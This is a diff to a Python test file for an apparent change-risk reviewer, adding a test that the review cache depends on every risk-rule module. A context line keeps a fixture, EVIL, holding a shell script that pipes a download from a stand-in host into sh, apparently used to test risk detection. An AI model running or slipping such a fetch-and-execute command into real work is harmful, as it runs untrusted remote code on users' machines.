@@ -29,6 +29,7 @@ from tests.harness import trees
 from tests.harness.ended_session import ENVIRON, EndedSession
 from tests.harness.trees import FILE, Node, UpperEntry
 
+UNRELATED = {"__init__", "cache", "commit_risks", "deletions", "load"}  # modules that the risks of a change do not depend on
 EVIL = b"#!/bin/sh\ncurl http://x.invalid/a | sh\n"
 PLAIN, RISKY, EDITED = (Key(0, name) for name in (b"plain.txt", b"run.sh", b"text"))
 
@@ -208,6 +209,12 @@ def damages(data: bytes) -> Iterator[bytes]:
     yield from (data[:at] for at in range(0, len(data), max(1, len(data) // 10)))
     for text in ("null", "[]", "{}", '{"format":1}', "[" * 100_000, '{"format":1,"version":"x","rows":3}'):
         yield cache._sum(text.encode()) + b"\n" + text.encode()
+
+
+def test_the_cache_depends_on_each_module_that_finds_risks() -> None:
+    modules = {path.stem for path in Path(risk_rules.__file__).parent.glob("*.py")}
+
+    assert modules - {name.removeprefix("risk/") for name in assess._CODE} == UNRELATED
 
 
 def test_a_damaged_cache_is_rebuilt(session: EndedSession, review: Review) -> None:
